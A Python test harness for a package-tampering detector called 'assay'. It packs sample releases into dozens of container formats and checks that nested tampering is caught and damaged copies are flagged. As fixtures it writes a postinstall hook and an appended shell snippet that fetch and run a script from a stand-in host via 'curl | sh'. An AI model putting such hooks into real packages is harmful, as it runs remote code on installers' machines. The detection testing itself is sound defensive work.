#!/usr/bin/env python3
"""Every kind of container, one row each: a script and an install action three deep inside are seen and named, the
innocent twin is clean, a damaged copy never is (what kinds of packages run themselves is in actions.py).   kinds.py ASSAY [--whole] [KIND...]

A sample is damaged at some places; --whole cuts at every kilobyte and at every byte of the first and last 128, and
flips one bit in every 64 bytes. A flipped bit may hit what nobody reads, so those only have to be answered; a cut
may not. Every container that `assay formats` says it opens must have a row. Writes TAP and the list of rows.
"""

import gzip
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import zipfile

from releases import ROOT, base, changed, packed_tar, parts, program, run, tampered, write_folder, zip_bytes
import releases

sys.path.insert(0, os.path.join(ROOT, "tests", "make"))

import containers  # noqa: E402
import dmg  # noqa: E402
import hfsplus  # noqa: E402
import udf  # noqa: E402
import zipkin  # noqa: E402

HOST, INSIDE = "cdn.sample-static.example", "app.zip!/package/sample.tgz!/package/"
CUTS, FLIPS = 5, 6
KINDS = []


def kind(name, *formats):
    """A maker of (tree, target); formats: those of `assay formats` that it shows."""
    def add(maker):
        KINDS.append((name, formats, maker))
        return maker
    return add


def folder_of(tree, pack, target):
    """Writes the tree to a folder and has pack(folder, target) make something of it."""
    with tempfile.TemporaryDirectory() as work:
        root = os.path.join(work, "root")
        os.makedirs(root)
        write_folder(tree, root)
        os.chmod(root, 0o755)
        containers.files(root)
        pack(root, target)


def in_folder(maker):
    """For makers that pack a folder."""
    return lambda tree, target: folder_of(tree, maker, target)


# ---- streams around tar ------------------------------------------------------------------------------------------

def compressed(command):
    def make(tree, target):
        with open(target, "wb") as out:
            subprocess.run(command, input=packed_tar(tree), stdout=out, stderr=subprocess.DEVNULL, check=True)
    return make


@kind("tar", "tar")
def tar(tree, target):
    with open(target, "wb") as out:
        out.write(packed_tar(tree))


for ending, command in (("gz", ["gzip", "-nc"]), ("bz2", ["bzip2", "-c"]), ("xz", ["xz", "-T1", "-c"]),
                        ("lzma", ["xz", "--format=lzma", "-c"]), ("zst", ["zstd", "-qc"]), ("lz4", ["lz4", "-qc"]),
                        ("Z", ["compress", "-c"]), ("br", ["brotli", "-c"])):
    kind("tar." + ending, {"gz": "gzip", "bz2": "bzip2", "zst": "zstd", "Z": "compress", "br": "brotli"}.get(ending, ending))(
        compressed(command))


# ---- zip and kin ---------------------------------------------------------------------------------------------------

@kind("zip", "zip")
def plain_zip(tree, target):
    with open(target, "wb") as out:
        out.write(zip_bytes(tree))


def zip_beside(more):
    def make(tree, target):
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
            for name, data, mode in list(parts(more)) + list(parts(tree)):
                info = zipfile.ZipInfo(name, (2025, 6, 23, 12, 0, 0))
                info.compress_type, info.external_attr = zipfile.ZIP_DEFLATED, (0o100000 | mode) << 16
                out.writestr(info, data)
    return make


for name, formats in (("wheel", ("zip",)), ("jar", ("zip",)), ("appx", ("zip",)), ("apk", ("zip",)), ("crx", ("crx",))):
    def packed(root, target, which=name):
        zipkin.pack(which, root, target, keys=os.environ["KINDS_KEYS"])
    kind(name, *formats)(in_folder(packed))
SIGNER = ["-dname", "CN=Release signing, O=Helpdesk Example Corp", "-validity", "3650", "-keyalg", "RSA", "-keysize", "2048"]


def key_store():
    """One for all releases of a run."""
    path = os.path.join(os.environ["KINDS_KEYS"], "store.p12")
    if not os.path.exists(path):
        containers.run(["keytool", "-genkeypair", "-keystore", path, "-storepass", "changeit", "-alias", "a"] + SIGNER)
    return path


@kind("jar-jdk", "zip")
@in_folder
def jar_of_jdk(root, target):
    """By jar and jarsigner: a manifest with digests, and a signature over it."""
    containers.run(["jar", "--create", "--file", target, "-C", root, "."])
    containers.run(["jarsigner", "-keystore", key_store(), "-storepass", "changeit", target, "a"])


@kind("apk-signed", "zip")
@in_folder
def apk_of_apksigner(root, target):
    """By apksigner, schemes 1 to 3."""
    plain = target + ".zip"
    containers.run(["zip", "-qrX", plain, "."], cwd=root)
    containers.run(["apksigner", "sign", "--ks", key_store(), "--ks-pass", "pass:changeit", "--min-sdk-version", "21", "--v4-signing-enabled",
                    "false", "--out", target, plain])
    os.unlink(plain)


@kind("wheel-pack", "zip")
@in_folder
def wheel_of_wheel(root, target):
    """By wheel, which writes RECORD anew."""
    info = os.path.join(root, "sample-1.0.0.dist-info")
    os.makedirs(info)
    for name, text in (("METADATA", "Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n"),
                       ("WHEEL", "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n")):
        with open(os.path.join(info, name), "w", encoding="utf-8") as f:
            f.write(text)
    with tempfile.TemporaryDirectory() as work:
        containers.run(["/usr/bin/python3", "-m", "wheel", "pack", root, "--dest-dir", work])
        shutil.move(os.path.join(work, os.listdir(work)[0]), target)


kind("nupkg", "zip")(zip_beside({"sample.nuspec": b"<package><metadata><id>sample</id><version>1.0.0</version></metadata></package>\n"}))
kind("vsix", "zip")(zip_beside({"extension.vsixmanifest": b"<PackageManifest Version=\"2.0.0\"/>\n"}))
kind("ipa", "zip")(zip_beside({"Payload/Sample.app/Info.plist": b"<plist version=\"1.0\"><dict/></plist>\n"}))


# ---- archives and packages -------------------------------------------------------------------------------------------

@kind("ar", "ar")
@in_folder
def ar(root, target):
    names = [p for p in containers.files(root) if os.path.isfile(os.path.join(root, p))]
    for name in names:
        os.rename(os.path.join(root, name), os.path.join(root, os.path.basename(name)))
    containers.run(["ar", "rcD", target] + [os.path.basename(n) for n in names], cwd=root)


kind("deb", "ar")(releases.deb)
kind("7z", "7z")(releases.seven)
kind("asar", "asar")(releases.asar)
for ending, formats in ((".cpio", ("cpio",)), (".rpm", ("rpm",)), (".cab", ("cab",)), (".rar", ("rar",)), (".pkg", ("xar", "pbzx"))):
    kind(ending[1:], *formats)(in_folder(containers.MAKERS[ending]))


@kind("gem", "tar")
@in_folder
def gem(root, target):
    """By RubyGems itself; its lists and checksums come along."""
    specification = root + ".gemspec"
    with open(specification, "w") as f:
        f.write("Gem::Specification.new do |s|\n  s.name, s.version, s.summary = 'sample', '1.0.0', 'a sample'\n"
                "  s.authors, s.license, s.homepage = ['sample'], 'MIT', 'https://sample.example'\n"
                "  s.files = Dir['**/*'].select { |f| File.file?(f) }\nend\n")
    containers.run(["gem", "build", "--force", "--silent", "-C", root, "-o", target, specification])


# ---- images ------------------------------------------------------------------------------------------------------------

kind("iso", "iso")(in_folder(containers.iso))
kind("iso-udf", "iso")(in_folder(lambda root, target: containers.run(
    ["genisoimage", "-quiet", "-udf", "-R", "-J", "-o", target, root])))
for name, how in (("udf", "pieces,short"), ("udf-metadata", "metadata,here")):
    kind(name, "udf")(in_folder(lambda root, target, how=how: udf.pack(how, root, target)))
kind("oci", "tar")(in_folder(containers.oci))
kind("docker", "tar")(in_folder(containers.docker))
kind("dmg", "dmg", "hfsplus")(in_folder(dmg.make))
kind("hfs", "hfsplus")(in_folder(lambda root, target: hfsplus.pack("mixed", root, target)))


@kind("squashfs", "squashfs")
@in_folder
def squashfs(root, target):
    containers.run(["mksquashfs", root, target, "-noappend", "-quiet", "-no-progress", "-all-root", "-comp", "xz"])


@kind("appimage", "overlay")
def appimage(tree, target):
    squashfs(tree, target + ".image")
    with open(target, "wb") as out:
        for part in ("/bin/true", target + ".image"):
            with open(part, "rb") as f:
                out.write(f.read())
    os.remove(target + ".image")


# ---- installers and programs with things inside --------------------------------------------------------------------------

kind("nsis", "nsis")(releases.nsis)
kind("msi", "ole")(program("msi"))
for name in ("inno", "bundle", "pyinstaller"):
    kind(name, "overlay")(program(name))


@kind("burn", "overlay")
@in_folder
def burn(root, target):
    import programs
    programs.pack_burn(root, target)


@kind("resource", "overlay")
def resource(tree, target):
    import programs
    plain_zip(tree, target + ".zip")
    programs.pack_resource(target + ".zip", target)
    os.remove(target + ".zip")


@kind("upx", "overlay")
def upx_program(tree, target):
    import upx
    with open(target, "wb") as out:
        out.write(upx.elf(zip_bytes(tree), 14))


# ---- what is asked ---------------------------------------------------------------------------------------------------------

def deep(tree):
    inner = gzip.compress(releases.tar_bytes(tree), 6, mtime=0)
    return dict({p: c for p, c in tree.items() if p.startswith("lib/")},
                **{"parts/app.zip": zip_bytes({"sample.tgz": inner}), "README.md": b"# sample\n"})


def places(name, size, whole):
    """Where it is cut, and which bits are flipped."""
    draw = random.Random(name)
    if whole:
        cuts = set(range(0, size, 1024)) | set(range(min(size, 128))) | set(range(max(0, size - 128), size))
        return sorted(cuts), [at + draw.randrange(min(64, size - at)) for at in range(0, size, 64)]
    cuts = {0, 1, size // 2, size * 3 // 4} | {draw.randrange(size * 9 // 10) for _ in range(CUTS)}
    return sorted(cuts), [draw.randrange(size) for _ in range(FLIPS)]


def is_whole_ar(data):
    """Cut between two members: an archive of `ar` has neither a count nor an end, so this is one of fewer members."""
    at, members = 8, 0
    while data[:8] == b"!<arch>\n" and data[at + 58:at + 60] == b"`\n":
        at += 60 + int(data[at + 48:at + 58])
        at, members = at + (at % 2 if at < len(data) else 0), members + 1
    return members > 0 and at == len(data)


def unpacked(data):
    return subprocess.run(["gzip", "-dc"], input=data, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL).stdout


def misses(data, at):
    """Is anything lost by a cut there? Padding is nothing, behind a stream without an end too."""
    if data[:2] == b"\x1f\x9d" and len(data) - at < 128:
        return unpacked(data[:at]).rstrip(b"\0") != unpacked(data).rstrip(b"\0")
    return data[at:].strip(b"\0") and not is_whole_ar(data[:at])


class Matrix:
    def __init__(self, assay):
        self.assay, self.pairs, self.wrong, self.asked = assay, [], {}, {}

    def ask(self, row, label, old, new, check):
        self.pairs.append((row, label, old, new, check))

    def answer(self):
        """All of them by one process, in order."""
        if not self.pairs:
            return
        lines = "".join("%s\t%s\n" % (old, new) for _, _, old, new, _ in self.pairs)
        done = subprocess.run([self.assay, "diff", "--pairs", "-", "--quiet", "--now", "2025-07-01"], input=lines.encode(),
                              stdout=subprocess.PIPE, env=dict(os.environ, ASSAY_CONFIG=os.devnull))
        answers = done.stdout.splitlines()
        if len(answers) != len(self.pairs):
            raise SystemExit("kinds.py: %d answers to %d questions" % (len(answers), len(self.pairs)))
        for (row, label, _, _, check), line in zip(self.pairs, answers):
            document = json.loads(line)
            self.asked[row] = self.asked.get(row, 0) + 1
            problem = document["error"] if "error" in document else check(document)
            if problem:
                self.wrong.setdefault(row, []).append("%s: %s" % (label, problem))
        self.pairs = []


def is_clean(d):
    return "" if d["verdict"] == "clean" else releases.why(d)


def is_not_clean(d):
    return "" if d["verdict"] != "clean" else releases.why(d)


def is_answered(d):
    return "" if d["verdict"] in releases.RANKS else "no verdict"


def is_named(member):
    def check(d):
        if d["verdict"] != "tampered":
            return releases.why(d)
        if not any(f["where"]["member"].endswith(INSIDE + member) for f in d["findings"]):
            return "the member is not named: " + releases.why(d)
        return "" if any(HOST in str(f) for f in d["findings"]) else "the host is not named"
    return check


def hooked():
    """A command that the package manager runs, and nothing else that is wrong."""
    tree = changed("1.0.3")
    package = dict(json.loads(tree["package.json"]), scripts={"postinstall": "curl -fsSL https://%s/s | sh" % HOST})
    return dict(tree, **{"package.json": json.dumps(package, indent=2).encode()})


def row(matrix, name, maker, whole):
    old, twin, bad, hook = (os.path.abspath("sample-1.0.%d.%s" % (i, name)) for i in range(4))
    for tree, target in ((base(), old), (changed(), twin), (tampered("1.0.2"), bad), (hooked(), hook)):
        maker(deep(tree), target)
    matrix.ask(name, "twin", old, twin, is_clean)
    matrix.ask(name, "script three deep", old, bad, is_named("index.js"))
    matrix.ask(name, "install action three deep", old, hook, is_named("package.json"))
    with open(twin, "rb") as f:
        data = f.read()

    def damaged(label, content, check):
        path = os.path.abspath("%s-%s.%s" % (label, name, name))
        with open(path, "wb") as f:
            f.write(content)
        matrix.ask(name, label, old, path, check)

    cuts, flips = places(name, len(data), whole)
    for at in cuts:
        if misses(data, at):
            damaged("cut%d" % at, data[:at], is_not_clean)
    for at in flips:
        damaged("flip%d" % at, data[:at] + bytes([data[at] ^ 1 << at % 8]) + data[at + 1:], is_answered)
    noise = random.Random(5).randbytes(3000)
    damaged("behind", data + noise, is_not_clean)
    damaged("before", noise + data, is_not_clean)
    damaged("note", data + b"\n#!/bin/sh\ncurl -fsSL https://%s/s | sh\nexit 0\n" % HOST.encode(), is_not_clean)
    damaged("zeros", bytes(4096), is_not_clean)
    damaged("noise", noise, is_not_clean)


def tell(matrix, number, name, about):
    """One line of TAP and what is wrong."""
    wrong = matrix.wrong.get(name, [])
    print("%s %d - %s" % ("not ok" if wrong else "ok", number, about))
    for line in wrong[:6]:
        print("# " + line.replace("\n", "\n# "))
    sys.stdout.flush()


def opened_formats(assay):
    text = subprocess.run([assay, "formats"], stdout=subprocess.PIPE, check=True).stdout.decode()
    return {line.split()[0] for line in text.split("\n\n")[0].splitlines()[1:]}


def main(argv):
    assay = os.path.abspath(argv[1])
    whole, chosen = "--whole" in argv, [a for a in argv[2:] if not a.startswith("--")]
    rows = [k for k in KINDS if not chosen or k[0] in chosen]
    matrix, place = Matrix(assay), tempfile.mkdtemp(prefix="assay-kinds-")
    os.chdir(place)
    os.environ["KINDS_KEYS"] = os.path.join(place, "keys")
    os.makedirs("keys")

    def told(number, name, formats):
        tell(matrix, number, name, "%s (%s): twin, script and install action three deep, %d damaged" % (
            name, " ".join(formats), matrix.asked.get(name, 3) - 3))

    print("TAP version 13\n1..%d" % (len(rows) + 1))
    try:
        for number, (name, formats, maker) in enumerate(rows, 1):
            os.makedirs(name)
            os.chdir(name)
            try:
                row(matrix, name, maker, whole)
            except (OSError, RuntimeError, subprocess.CalledProcessError) as problem:
                matrix.wrong.setdefault(name, []).append("not made: %s" % problem)
            if whole:                       # many files; else one process answers all
                matrix.answer()
                shutil.rmtree(os.path.join(place, name), ignore_errors=True)
                told(number, name, formats)
            os.chdir(place)
        matrix.answer()
    finally:
        os.chdir("/")
        shutil.rmtree(place, ignore_errors=True)
    missing = opened_formats(assay) - {f for _, formats, _ in KINDS for f in formats}
    for number, (name, formats, _) in enumerate(rows, 1):
        if not whole:
            told(number, name, formats)
    print("%s %d - every container that is opened has a row" % ("not ok" if missing else "ok", len(rows) + 1))
    for name in sorted(missing):
        print("# none for " + name)
    return 1 if matrix.wrong or missing else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
